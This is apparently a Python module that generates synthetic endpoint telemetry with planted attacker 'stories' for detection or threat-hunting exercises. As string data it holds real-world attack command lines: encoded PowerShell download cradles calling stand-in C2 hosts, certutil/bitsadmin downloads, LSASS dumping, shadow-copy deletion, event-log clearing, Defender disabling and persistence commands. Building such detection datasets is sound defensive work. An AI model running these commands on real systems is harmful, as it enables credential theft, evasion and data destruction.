"""Planted endpoint stories: process, file, registry and device events.

Each function plants one occurrence of a story into a ``Scene``; the registry
in ``stories.py`` says what each one is and which query finds it.
"""

from __future__ import annotations

import base64

from .scene import Scene

_PS = "powershell.exe"
_C2 = ("update-cdn.net", "files-share.org", "cdn-static.info")
_CLEARED_LOGS = (
    "Security",
    "System",
    "Application",
    "Setup",
    "Windows PowerShell",
    "Microsoft-Windows-PowerShell/Operational",
    "Microsoft-Windows-Sysmon/Operational",
    "Microsoft-Windows-TaskScheduler/Operational",
    "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
    "Microsoft-Windows-Windows Defender/Operational",
    "Microsoft-Windows-WMI-Activity/Operational",
    "Microsoft-Windows-Bits-Client/Operational",
)


def c2_url(scene: Scene, path: str) -> str:
    return f"http://{scene.rng.choice(_C2)}/{path}"


def powershell_from_appdata(scene: Scene) -> None:
    device, user = scene.workstation(), scene.person()
    stem = scene.rng.choice(("updater", "msedge_helper", "teams_sync"))
    payload = f"C:\\Users\\{user.name}\\AppData\\Roaming\\Microsoft\\{stem}.exe"
    parent_cmd = f'{_PS} -nop -w hidden -c "Start-Process {payload}"'
    scene.process(
        device,
        user,
        parent="WINWORD.EXE",
        parent_command_line='"WINWORD.EXE" /n',
        child=_PS,
        command_line=parent_cmd,
    )
    scene.process(
        device,
        user,
        parent=_PS,
        parent_command_line=parent_cmd,
        grandparent="WINWORD.EXE",
        child=payload.rsplit("\\", 1)[1],
        command_line=f'"{payload}" --silent',
        seconds=3,
        folder=payload.rsplit("\\", 1)[0],
    )
    file_row = scene.initiating(device, user, _PS, parent_cmd, "WINWORD.EXE", 2)
    file_row.update(
        ActionType="FileCreated",
        FileName=payload.rsplit("\\", 1)[1],
        FolderPath=payload,
        SHA1=scene.hexdigits(40),
        SHA256=scene.hexdigits(64),
        FileSize=184_320,
        FileOriginUrl=c2_url(scene, "u.exe"),
    )
    scene.emit("DeviceFileEvents", file_row)


def encoded_powershell(scene: Scene) -> None:
    device, user = scene.workstation(), scene.person()
    script = f"IEX (New-Object Net.WebClient).DownloadString('{c2_url(scene, 'a')}')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    flag = scene.rng.choice(("-EncodedCommand", "-enc", "-e"))
    cmd = f"powershell.exe -NoP -NonI -W Hidden {flag} {encoded}"
    scene.process(
        device,
        user,
        parent="cmd.exe",
        parent_command_line=f'cmd.exe /c "{cmd}"',
        child=_PS,
        command_line=cmd,
    )
    scene.device_event(
        device,
        user,
        "PowerShellCommand",
        parent=_PS,
        parent_command_line=cmd,
        seconds=1,
        AdditionalFields={"Command": "Invoke-Expression"},
    )
    url = c2_url(scene, "stage2.ps1")
    stage = (
        'powershell.exe -NoP -c "(New-Object Net.WebClient).DownloadFile('
        f"'{url}', (Join-Path $env:TEMP 's.ps1'))\""
    )
    scene.process(
        device,
        user,
        parent=_PS,
        parent_command_line=cmd,
        grandparent="cmd.exe",
        child=_PS,
        command_line=stage,
        seconds=2,
    )


def lolbin_download(scene: Scene) -> None:
    device, user = scene.workstation(), scene.person()
    url = c2_url(scene, "payload.bin")
    child, cmd = scene.rng.choice(
        [
            (
                "certutil.exe",
                f"certutil.exe -urlcache -split -f {url} C:\\Users\\Public\\svc.exe",
            ),
            (
                "bitsadmin.exe",
                f"bitsadmin.exe /transfer myjob /download /priority high "
                f"{url} C:\\Users\\Public\\svc.exe",
            ),
            ("mshta.exe", f"mshta.exe {url.replace('payload.bin', 'run.hta')}"),
        ]
    )
    row = scene.process(
        device,
        user,
        parent="cmd.exe",
        parent_command_line="cmd.exe",
        child=child,
        command_line=cmd,
    )
    net = scene.initiating(device, user, child, cmd, "cmd.exe", 2)
    net.update(
        ActionType="ConnectionSuccess",
        RemoteUrl=url.split("/")[2],
        RemoteIP=f"185.220.101.{scene.rng.randrange(2, 250)}",
        RemotePort=80,
        RemoteIPType="Public",
        LocalIP=device.local_ip,
        LocalIPType="Private",
        LocalPort=scene.rng.randrange(49152, 65535),
        Protocol="Tcp",
        InitiatingProcessId=row["ProcessId"],
    )
    scene.emit("DeviceNetworkEvents", net)


def credential_dumping(scene: Scene) -> None:
    device, user = scene.server(), scene.estate.users[-1]
    child, cmd = scene.rng.choice(
        [
            (
                "procdump64.exe",
                "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp",
            ),
            (
                "rundll32.exe",
                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump "
                f"{scene.pid()} C:\\Windows\\Temp\\debug.bin full",
            ),
        ]
    )
    scene.process(
        device,
        user,
        parent="cmd.exe",
        parent_command_line="cmd.exe",
        child=child,
        command_line=cmd,
    )
    scene.device_event(
        device,
        user,
        "OpenProcessApiCall",
        parent=child,
        parent_command_line=cmd,
        seconds=1,
        FileName="lsass.exe",
        FolderPath="C:\\Windows\\System32\\lsass.exe",
        AdditionalFields={"DesiredAccess": 2097151},
    )
    scene.alert(
        "Possible credential theft activity",
        severity="High",
        category="CredentialAccess",
        techniques=["T1003.001"],
        seconds=30,
        evidence=[
            {
                "EntityType": "Process",
                "EvidenceRole": "Impacted",
                "FileName": child,
                "ProcessCommandLine": cmd,
                "DeviceId": device.device_id,
                "DeviceName": device.name,
            }
        ],
    )


def service_install(scene: Scene) -> None:
    device, user = scene.server(), scene.estate.users[-1]
    service = scene.rng.choice(("WinUpdSvc", "MsSyncHelper", "RemoteCfgSvc"))
    image = f"C:\\ProgramData\\{service.lower()}\\svc.exe"
    cmd = f'sc.exe create {service} binPath= "{image}" start= auto'
    scene.process(
        device,
        user,
        parent="cmd.exe",
        parent_command_line="cmd.exe",
        child="sc.exe",
        command_line=cmd,
    )
    scene.device_event(
        device,
        scene.system(),
        "ServiceInstalled",
        parent="services.exe",
        parent_command_line="C:\\Windows\\system32\\services.exe",
        seconds=1,
        FileName="svc.exe",
        FolderPath=image,
        AdditionalFields={
            "ServiceName": service,
            "ServiceStartType": 2,
            "ServiceType": 16,
            "ServiceAccount": "LocalSystem",
        },
    )
    registry = scene.initiating(
        device,
        scene.system(),
        "services.exe",
        "C:\\Windows\\system32\\services.exe",
        "wininit.exe",
        1,
    )
    registry.update(
        ActionType="RegistryValueSet",
        RegistryKey="HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\" + service,
        RegistryValueName="ImagePath",
        RegistryValueData=image,
        RegistryValueType="ExpandString",
    )
    scene.emit("DeviceRegistryEvents", registry)


def shadow_copy_deletion(scene: Scene) -> None:
    device, user = scene.server(), scene.estate.users[-1]
    child, cmd = scene.rng.choice(
        [
            ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
            ("wmic.exe", "wmic.exe shadowcopy delete"),
        ]
    )
    scene.process(
        device,
        user,
        parent="cmd.exe",
        parent_command_line=f"cmd.exe /c {cmd}",
        child=child,
        command_line=cmd,
    )
    scene.alert(
        "File backups were deleted",
        severity="High",
        category="Impact",
        techniques=["T1490"],
        seconds=20,
        evidence=[
            {
                "EntityType": "Machine",
                "EvidenceRole": "Impacted",
                "DeviceId": device.device_id,
                "DeviceName": device.name,
            }
        ],
    )


def scheduled_task(scene: Scene) -> None:
    device, user = scene.workstation(), scene.person()
    task = scene.rng.choice(
        ("OneDrive Sync Helper", "GoogleUpdateTaskCore", "Adobe Flash Sync")
    )
    action = f"C:\\Users\\{user.name}\\AppData\\Roaming\\sync.exe"
    cmd = f'schtasks.exe /create /tn "{task}" /tr "{action}" /sc onlogon /ru SYSTEM /f'
    scene.process(
        device,
        user,
        parent="cmd.exe",
        parent_command_line="cmd.exe",
        child="schtasks.exe",
        command_line=cmd,
    )
    scene.device_event(
        device,
        user,
        "ScheduledTaskCreated",
        parent="schtasks.exe",
        parent_command_line=cmd,
        seconds=1,
        AdditionalFields={
            "TaskName": f"\\{task}",
            "TaskContent": f"<Exec>{action}</Exec>",
        },
    )


def run_key(scene: Scene) -> None:
    device, user = scene.workstation(), scene.person()
    name = scene.rng.choice(("SecurityHealth2", "OneDriveUpdate", "WinDefend32"))
    data = f"C:\\Users\\{user.name}\\AppData\\Local\\Temp\\{name.lower()}.exe"
    cmd = (
        f'reg.exe add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" '
        f'/v {name} /t REG_SZ /d "{data}" /f'
    )
    scene.process(
        device,
        user,
        parent="cmd.exe",
        parent_command_line="cmd.exe",
        child="reg.exe",
        command_line=cmd,
    )
    row = scene.initiating(device, user, "reg.exe", cmd, "cmd.exe", 1)
    row.update(
        ActionType="RegistryValueSet",
        RegistryKey=f"HKEY_CURRENT_USER\\{user.sid}\\SOFTWARE\\Microsoft\\"
        "Windows\\CurrentVersion\\Run",
        RegistryValueName=name,
        RegistryValueData=data,
        RegistryValueType="String",
    )
    scene.emit("DeviceRegistryEvents", row)


def log_clearing(scene: Scene) -> None:
    device, user = scene.server(), scene.estate.users[-1]
    for offset, log in enumerate(_CLEARED_LOGS):
        scene.process(
            device,
            user,
            parent="cmd.exe",
            parent_command_line="cmd.exe",
            child="wevtutil.exe",
            command_line=f"wevtutil.exe cl {log}",
            seconds=offset,
        )
    scene.alert(
        "Event log was cleared",
        severity="Medium",
        category="DefenseEvasion",
        techniques=["T1070.001"],
        seconds=10,
        evidence=[
            {
                "EntityType": "Machine",
                "EvidenceRole": "Impacted",
                "DeviceId": device.device_id,
                "DeviceName": device.name,
            }
        ],
    )


def defender_tampering(scene: Scene) -> None:
    device, user = scene.workstation(), scene.estate.users[-1]
    for offset, cmd in enumerate(
        (
            'powershell.exe -c "Set-MpPreference -DisableRealtimeMonitoring $true"',
            'powershell.exe -c "try { Add-MpPreference -ExclusionPath '
            "'C:\\ProgramData' } catch {}\"",
        )
    ):
        scene.process(
            device,
            user,
            parent="cmd.exe",
            parent_command_line="cmd.exe",
            child=_PS,
            command_line=cmd,
            seconds=offset,
        )
    policy = (
        "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection"
    )
    reg = f'"reg" add "{policy}" /v DisableRealtimeMonitoring /t REG_DWORD /d 1 /f'
    scene.process(
        device,
        user,
        parent="cmd.exe",
        parent_command_line="cmd.exe",
        child="reg.exe",
        command_line=reg,
        seconds=3,
    )
    scene.process(
        device,
        user,
        parent="reg.exe",
        parent_command_line=reg,
        grandparent="cmd.exe",
        child="conhost.exe",
        command_line="\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        seconds=3.1,
    )
    registry = scene.initiating(device, user, "reg.exe", reg, "cmd.exe", 3.2)
    registry.update(
        ActionType="RegistryValueSet",
        RegistryKey="HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\"
        "Windows Defender\\Real-Time Protection",
        RegistryValueName="DisableRealtimeMonitoring",
        RegistryValueData="1",
        RegistryValueType="Dword",
    )
    scene.emit("DeviceRegistryEvents", registry)


def web_shell(scene: Scene) -> None:
    device = scene.rng.choice(
        [d for d in scene.estate.servers if "web" in d.name] or scene.estate.servers
    )
    worker = 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0"'
    commands = scene.rng.sample(
        ["whoami /all", "net user", "ipconfig /all", "tasklist /v", "nltest /dclist:"],
        k=3,
    )
    for offset, command in enumerate(commands):
        cmd = f'cmd.exe /c "cd /d c:\\inetpub\\wwwroot\\aspnet_client&{command}"'
        row = scene.process(
            device,
            scene.system(),
            parent="w3wp.exe",
            parent_command_line=worker,
            grandparent="svchost.exe",
            child="cmd.exe",
            command_line=cmd,
            seconds=offset * 4,
        )
        # IIS runs site code as the application pool identity, not SYSTEM.
        row.update(
            AccountName="defaultapppool",
            AccountDomain="iis apppool",
            AccountSid="S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415",
            InitiatingProcessAccountName="defaultapppool",
            InitiatingProcessAccountDomain="iis apppool",
        )


def office_script_host(scene: Scene) -> None:
    device, user = scene.workstation(), scene.person()
    number = scene.rng.randrange(1000, 9999)
    script = f"C:\\Users\\{user.name}\\Downloads\\Invoice_{number}.jse"
    scene.process(
        device,
        user,
        parent="WINWORD.EXE",
        parent_command_line=f'"WINWORD.EXE" /n "{script[:-4]}.docm"',
        child="wscript.exe",
        command_line=f'"C:\\Windows\\System32\\WScript.exe" "{script}"',
    )


def domain_enumeration(scene: Scene) -> None:
    device, user = scene.workstation(), scene.person()
    for offset, cmd in enumerate(
        (
            f"net.exe user {user.name} /domain",
            'net.exe group "Domain Admins" /domain',
            "whoami.exe /all",
            "nltest.exe /domain_trusts",
        )
    ):
        scene.process(
            device,
            user,
            parent="cmd.exe",
            parent_command_line="cmd.exe",
            child=cmd.split(" ")[0],
            command_line=cmd,
            seconds=offset,
        )


def local_admin_added(scene: Scene) -> None:
    device, user = scene.workstation(), scene.person()
    account = f"helpdesk{scene.rng.randrange(10, 99)}"
    cmd = f"net.exe localgroup administrators {account} /add"
    scene.process(
        device,
        user,
        parent="cmd.exe",
        parent_command_line="cmd.exe",
        child="net.exe",
        command_line=cmd,
    )
    sid = f"S-1-5-21-1004336348-1177238915-682003330-{scene.rng.randrange(1001, 1099)}"
    scene.device_event(
        device,
        user,
        "UserAccountCreated",
        parent="net.exe",
        parent_command_line=f"net.exe user {account} P@ss /add",
        seconds=1,
        AccountName=account,
        AccountSid=sid,
        AccountDomain=device.host,
    )
    scene.device_event(
        device,
        user,
        "UserAccountAddedToLocalGroup",
        parent="net.exe",
        parent_command_line=cmd,
        seconds=2,
        AccountSid=sid,
        AdditionalFields={
            "GroupName": "Administrators",
            "GroupDomainName": "BUILTIN",
            "GroupSid": "S-1-5-32-544",
        },
    )
